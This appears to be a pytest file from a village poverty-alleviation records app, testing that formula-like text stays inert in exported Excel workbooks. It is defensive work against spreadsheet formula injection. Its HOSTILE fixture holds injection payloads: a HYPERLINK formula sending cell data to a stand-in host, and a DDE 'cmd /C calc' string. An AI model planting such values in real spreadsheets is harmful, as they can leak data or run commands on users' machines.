"""Text that starts like a formula (= + - @) stays text in every exported workbook (issue 14 item 7, last sentence):
the upward package (masked, 公示版, full: data sheets and 说明) and the township summary. One helper,
``exchange.ledgers.inert_row``, does it; the checks read the workbook XML itself, as Excel would."""
from __future__ import annotations

import re
import zipfile

import pytest
from openpyxl import load_workbook

from fupin_desktop.exchange.ledgers import inert_row, looks_like_formula
from fupin_desktop.exchange.package import export_package
from fupin_desktop.exchange.report_book import export_for_period
from fupin_desktop.exchange.township import write_township_summary
from fupin_desktop.services.reporting import Period, ReportFilter
from fupin_desktop.services.households import HouseholdInput, MemberInput
from fupin_desktop.services.village import CadreInput, VillageInput

HOSTILE = {
    "village": '=HYPERLINK("http://x.example/?"&A1,"点这里")',
    "township": "+1+cmd|' /C calc'!A0",
    "head": "-2+3",
    "group": "@SUM(1,2)",
    "member": "=1+1",
}


@pytest.fixture
def hostile_village(services):
    services.village.set_up(
        VillageInput(name=HOSTILE["village"], division_code="130204203213", township=HOSTILE["township"],
                     county="古冶区", dispatch_unit="=A1"),
        [CadreInput(name="张书记", role="secretary", unit="@unit")])
    services.households.create(
        HouseholdInput(head_name=HOSTILE["head"], group_name=HOSTILE["group"], household_type="alleviated"),
        [MemberInput(name=HOSTILE["head"], relation="head"), MemberInput(name=HOSTILE["member"], relation="spouse")])


def formulas(path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, as Excel would evaluate them."""
    out = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                out += [f"{name}: {m}" for m in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", z.read(name).decode())]
    return out


def quoted_texts(path) -> set[str]:
    """Texts of cells whose style carries the quote prefix (Excel's leading apostrophe)."""
    wb = load_workbook(path)
    try:
        return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and c.quotePrefix and c.data_type == "s"}
    finally:
        wb.close()


def all_values(path) -> set:
    wb = load_workbook(path, read_only=True)
    try:
        return {v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row}
    finally:
        wb.close()


@pytest.mark.parametrize("mode", ["masked", "public", "full"])
def test_package_cells_never_become_formulas(services, hostile_village, tmp_path, mode):
    path = export_package(services, tmp_path / f"{mode}.xlsx", full=mode == "full", public=mode == "public").path
    assert formulas(path) == []
    values = all_values(path)
    quoted = quoted_texts(path)
    for key in ("village", "township", "head", "group", "member"):
        assert HOSTILE[key] in values, key  # the same text, not a formula's result
        assert HOSTILE[key] in quoted, key
    assert "=A1" in quoted and "@unit" in quoted


def test_township_summary_names_stay_text(services, hostile_village, tmp_path):
    out = write_township_summary(services, tmp_path / "township.xlsx", ReportFilter(Period.year(2024)))
    assert formulas(out) == []  # totals are computed values, not formulas
    quoted = quoted_texts(out)
    assert HOSTILE["village"] in quoted  # the village's row
    assert any(q.startswith(HOSTILE["township"]) for q in quoted)  # the title: township name + 各村…汇总表


@pytest.mark.parametrize("form", ["masked", "full", "public"])
def test_report_book_names_stay_text(services, hostile_village, tmp_path, form):
    out = export_for_period(services, tmp_path / f"{form}.xlsx", form=form).path
    assert formulas(out) == []
    quoted = quoted_texts(out)
    for key in ("village", "head", "group") + (("member",) if form != "public" else ()):
        assert HOSTILE[key] in quoted, key
